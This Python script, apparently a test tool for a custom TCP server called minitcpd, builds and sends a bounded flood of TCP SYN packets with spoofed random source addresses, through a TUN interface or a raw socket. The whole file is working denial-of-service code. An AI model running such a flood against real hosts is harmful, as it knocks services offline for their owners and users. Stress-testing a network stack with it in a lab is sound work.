#!/usr/bin/env python3
"""A bounded spoofed SYN flood: COUNT SYNs, spread evenly over SECONDS, from random sources in
10.77.0.0/16 (random ports and ISNs, seeded), written onto a TUN interface through a packet
socket so that they reach minitcpd as if routed into the TUN. The SYN-ACKs go to addresses
nobody owns. IFACE "raw": sent through a raw IP socket instead (the kernel routes them, for a
Linux target). Usage: synflood.py IFACE DST DPORT COUNT SECONDS [SEED]"""
import random
import socket
import struct
import sys
import time

from inject import csum, ip

ETH_P_IP = 0x0800


def syn(rng: random.Random, dst: str, dport: int) -> bytes:
    src = "10.77.%d.%d" % (rng.randrange(256), rng.randrange(1, 255))
    sport, seq = rng.randrange(1024, 65536), rng.getrandbits(32)
    opt = struct.pack("!BBH", 2, 4, 1460)  # MSS, as a real client would send
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + 1) << 4, 0x02, 64240, 0, 0) + opt
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr))
    c = csum(pseudo + hdr)
    hdr = hdr[:16] + struct.pack("!H", c) + hdr[18:]
    return ip(hdr, proto=6, src=src, dst=dst)


def main():
    iface, dst, dport = sys.argv[1], sys.argv[2], int(sys.argv[3])
    count, secs = int(sys.argv[4]), float(sys.argv[5])
    rng = random.Random(int(sys.argv[6]) if len(sys.argv) > 6 else 1)
    if iface == "raw":  # through the kernel's routing (a Linux target beyond a veth)
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        s.connect((dst, 0))
    else:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
        s.bind((iface, ETH_P_IP))
    pkts = [syn(rng, dst, dport) for _ in range(count)]
    start = time.monotonic()
    sent = 0
    # in 100 slices: the rate stays even without one timer per packet
    for k in range(1, 101):
        upto = count * k // 100
        while sent < upto:
            s.send(pkts[sent])
            sent += 1
        delay = start + secs * k / 100 - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    print(f"flooded {sent} SYNs in {time.monotonic() - start:.2f} s", flush=True)


if __name__ == "__main__":
    main()
